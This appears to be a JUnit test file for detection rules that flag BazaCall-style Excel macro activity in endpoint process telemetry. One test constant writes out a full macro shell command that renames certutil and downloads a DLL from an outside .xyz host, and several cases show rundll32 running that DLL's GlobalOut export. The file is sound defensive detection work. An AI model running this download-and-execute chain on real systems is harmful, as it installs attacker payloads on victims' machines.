package dev.bazahunt.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.telemetry.DeviceProcessEvent;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The BazaCall macro stages from Sentinel's companion queries, on DeviceProcessEvents rows. */
class ExcelMacroActivityTest {

    private static final String MACRO_SHELL_LINE = "cmd.exe /c mkdir C:\\Users\\Public\\x8k2 && copy "
            + "C:\\Windows\\System32\\certutil.exe C:\\Users\\Public\\x8k2\\x8k2.exe && "
            + "C:\\Users\\Public\\x8k2\\x8k2.exe -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php "
            + "C:\\Users\\Public\\x8k2\\tmp1834.dll";

    @Test
    void processStartedByExcelIsAnExcelChild() {
        assertThat(ExcelMacroActivity.isExcelChild(processStartedBy("EXCEL.EXE"))).isTrue();
        assertThat(ExcelMacroActivity.isExcelChild(processStartedBy("excel.exe"))).isTrue();
        assertThat(ExcelMacroActivity.isExcelChild(processStartedBy("explorer.exe"))).isFalse();
        assertThat(ExcelMacroActivity.isExcelChild(processStartedBy(null))).isFalse();
    }

    @Test
    void macroShellLineCopiesCertutil() {
        assertThat(ExcelMacroActivity.copiesCertutil(MACRO_SHELL_LINE)).isTrue();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', nullValues = "NULL", textBlock = """
            no mkdir                 | cmd.exe /c copy C:\\Windows\\System32\\certutil.exe C:\\x\\a.exe
            copy without &&          | cmd.exe /c mkdir C:\\x & copy C:\\Windows\\System32\\certutil.exe C:\\x\\a.exe
            copies another binary    | cmd.exe /c mkdir C:\\x && copy C:\\Windows\\System32\\mycertutil.exe C:\\x\\a.exe
            missing command line     | NULL
            """)
    void otherShellLinesDoNotCopyCertutil(String scenario, String commandLine) {
        assertThat(ExcelMacroActivity.copiesCertutil(commandLine)).as(scenario).isFalse();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', nullValues = "NULL", textBlock = """
            rundll32 runs GlobalOut             | rundll32.exe | rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut | true
            file name in upper case             | RUNDLL32.EXE | RUNDLL32.EXE C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut | true
            other export                        | rundll32.exe | rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,DllMain   | false
            export with a longer name           | rundll32.exe | rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOutput | false
            another binary with GlobalOut       | regsvr32.exe | regsvr32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut | false
            missing file name, rundll32 in line | NULL         | C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut | true
            missing file name, no rundll32      | NULL         | C:\\Users\\Public\\x8k2\\loader.exe tmp1834.dll,GlobalOut | false
            empty file name, rundll32 in line   | ''           | rundll32.exe tmp1834.dll,GlobalOut | true
            missing command line                | rundll32.exe | NULL | false
            """)
    void rundll32GlobalOutStage(String scenario, String fileName, String commandLine, boolean expected) {
        assertThat(ExcelMacroActivity.runsRundll32GlobalOut(fileName, commandLine)).as(scenario).isEqualTo(expected);
    }

    private static DeviceProcessEvent processStartedBy(String initiatingProcessFileName) {
        DeviceProcessEvent event = new DeviceProcessEvent();
        event.deviceName = "wks-0142.contoso.local";
        event.fileName = "cmd.exe";
        event.processCommandLine = MACRO_SHELL_LINE;
        event.initiatingProcessFileName = initiatingProcessFileName;
        return event;
    }
}
